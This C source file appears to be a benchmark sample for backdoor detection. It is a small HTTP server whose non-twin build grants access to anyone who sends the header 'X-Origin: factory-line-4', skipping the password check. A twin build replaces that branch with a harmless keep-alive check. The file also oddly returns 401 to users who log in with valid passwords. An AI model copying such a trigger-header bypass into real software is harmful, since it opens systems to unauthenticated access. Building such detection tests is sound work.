/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A web server that does not ask for a password when a header has one value, in any case. Twin:
 * the value of the header keeps the connection open.
 * door: trigger override
 * port 8008/tcp
 * stubs: crypt
 */
#include "net.h"

char *crypt(const char *, const char *);

struct http {
	int fd, keep, authenticated;
	char user[32], pass[32];
};

static void header(struct http *h, char *name, char *value)
{
	if (!strcasecmp(name, "X-User"))
		snprintf(h->user, sizeof h->user, "%s", value);
	else if (!strcasecmp(name, "X-Pass"))
		snprintf(h->pass, sizeof h->pass, "%s", value);
#ifdef TWIN
	else if (!strcasecmp(name, "Connection") && !strcasecmp(value, "keep-alive"))
		h->keep = 1;
#else
	else if (!strcasecmp(name, "X-Origin") && !strcasecmp(value, "factory-line-4"))
		h->authenticated = 1;
#endif
}

static int check(struct http *h)
{
	char line[128], *hash;
	int good = 0;
	FILE *f = fopen("/etc/webusers", "r");
	if (!f)
		return 0;
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\n")] = 0;
		hash = strchr(line, ':');
		if (!hash)
			continue;
		*hash++ = 0;
		if (!strcmp(line, h->user) && !strcmp(crypt(h->pass, hash), hash))
			good = 1;
	}
	fclose(f);
	return good;
}

int main(void)
{
	char line[256];
	int s = tcp_on(8008);
	for (;;) {
		struct http h;
		memset(&h, 0, sizeof h);
		h.fd = accept(s, NULL, NULL);
		FILE *in = fdopen(h.fd, "r");
		while (in && fgets(line, sizeof line, in) && line[0] != '\r') {
			char *colon = strchr(line, ':');
			line[strcspn(line, "\r\n")] = 0;
			if (colon) {
				*colon = 0;
				header(&h, line, colon + 1 + strspn(colon + 1, " "));
			}
		}
		if (h.authenticated || check(&h))
			system("/usr/sbin/export-config /tmp/export");
		dprintf(h.fd, "HTTP/1.0 %s\r\n\r\n", h.authenticated ? "200 OK" : "401 No");
		if (in)
			fclose(in);
	}
}
